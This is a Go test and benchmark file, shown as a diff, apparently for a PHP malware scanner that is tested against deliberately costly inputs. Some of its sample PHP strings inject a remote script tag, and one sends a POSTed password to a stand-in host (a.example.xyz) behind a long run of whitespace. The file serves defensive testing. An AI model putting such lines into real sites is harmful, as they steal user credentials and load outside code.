@@ -1,0 +1,71 @@
+package php
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/base64"
+	"fmt"
+	"strings"
+	"testing"
+)
+
+// archive is a script that writes an archive of many scripts again and again.
+func archive(tb testing.TB) []byte {
+	var b bytes.Buffer
+	z := zip.NewWriter(&b)
+	for i := range 500 {
+		if _, err := z.Create(fmt.Sprintf("%d.php", i)); err != nil {
+			tb.Fatal(err)
+		}
+	}
+	if err := z.Close(); err != nil {
+		tb.Fatal(err)
+	}
+	return fmt.Appendf(nil, `<?php $_GET; eval(1); $z = base64_decode("%s"); for ($i = 0; $i < 5000; $i++) { file_put_contents("a.zip", $z); }`, base64.StdEncoding.EncodeToString(b.Bytes()))
+}
+
+func TestArchiveOnce(t *testing.T) {
+	page := archive(t)
+	if n := testing.AllocsPerRun(1, func() { Analyse("a.php", page) }); n > 100_000 {
+		t.Errorf("%.0f allocations", n)
+	}
+}
+
+// Literals that may show something are read up to a bound.
+func TestLeadsBound(t *testing.T) {
+	const script = `echo '<script src=//a.example.xyz/a.js></script>';`
+	filler := "$a = '" + strings.Repeat("//<script ", 700) + "';\n"
+	for n, want := range map[int]int{10: 1, 400: 0} {
+		page := []byte("<?php " + strings.Repeat(filler, n) + script)
+		if got := newMachine("a.php", page, traits(page)).leads(); len(got) != want {
+			t.Errorf("behind %d literals: %d leads, want %d", n, len(got), want)
+		}
+	}
+}
+
+// BenchmarkHostile judges files that are made to take long.
+func BenchmarkHostile(b *testing.B) {
+	const script = `'<script src=//a.example.xyz/a.js></script>';`
+	var round strings.Builder
+	for i := range 1200 {
+		fmt.Fprintf(&round, "a%d;", i)
+	}
+	var bodies strings.Builder
+	for i := range 50 {
+		fmt.Fprintf(&bodies, "function f%d() { %s $z = %s }\n", i, round.String(), script)
+	}
+	for name, page := range map[string][]byte{
+		"archive":  archive(b),
+		"literals": []byte("<?php $_COOKIE; " + strings.Repeat("$a = '"+strings.Repeat("//<script ", 700)+"';\n", 1000)),
+		"leads":    []byte("<?php $_COOKIE; " + bodies.String() + strings.Repeat("b;", 2_000_000)),
+		"spaces": []byte(`<?php $p = $_POST["password"]; // wp_signon(
+			for ($i = 0; $i < 5000; $i++) {` + strings.Repeat(" ", 2_000_000) + `file_get_contents("http://a.example.xyz/?p=" . $p); }`),
+	} {
+		b.Run(name, func(b *testing.B) {
+			b.SetBytes(int64(len(page)))
+			for b.Loop() {
+				Analyse("a.php", page)
+			}
+		})
+	}
+}
